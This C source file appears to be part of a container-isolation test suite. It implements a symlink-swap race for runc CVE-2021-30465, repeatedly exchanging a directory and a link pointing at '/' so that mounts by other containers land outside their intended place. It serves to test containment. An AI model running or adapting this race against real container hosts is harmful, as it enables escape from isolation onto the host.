/* Swaps a directory with a symbolic link, as fast as it can: whoever has looked at the directory and then mounts, or
 * makes something, below its name, does it where the link leads (runc CVE-2021-30465). The first argument is the place of
 * the swap, the second where the link leads. Expected in a box: it goes on until the box is killed. What it does to other
 * boxes that are made over the same place meanwhile is mount_swap_test's to see. */
#include "attack.h"
#include <sys/mount.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
    static char name[512], other[512];
    attack("contain_mount_swap");
    const char *place = argc > 1 ? argv[1] : "/tmp";
    const char *leads = argc > 2 ? argv[2] : "/";
    /* The host's directory stays as it is: the pen of a control has a mount namespace of its own. */
    if (in_pen() && mount("none", place, "tmpfs", 0, NULL))
        inconclusive("mount");
    snprintf(name, sizeof name, "%s/swapped", place);
    snprintf(other, sizeof other, "%s/other-%d", place, (int)getpid());
    if (mkdir(name, 0777) && errno != EEXIST)
        inconclusive("mkdir");
    chmod(name, 0777);
    if (symlink(leads, other))
        inconclusive("symlink");
    ready_open();
    if (spawn() == 0) {
        setsid();
        for (long swaps = 0;; swaps++) {
            if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE))
                _exit(INCONCLUSIVE);
            if (swaps == 1000)
                ready();
        }
    }
    await_ready(1);
    say("armed: a directory and a link change places");
    /* With a third argument it stays until standard input is closed. */
    char byte;
    while (argc > 3 && read(0, &byte, 1) > 0)
        ;
    return CONTAINED;
}
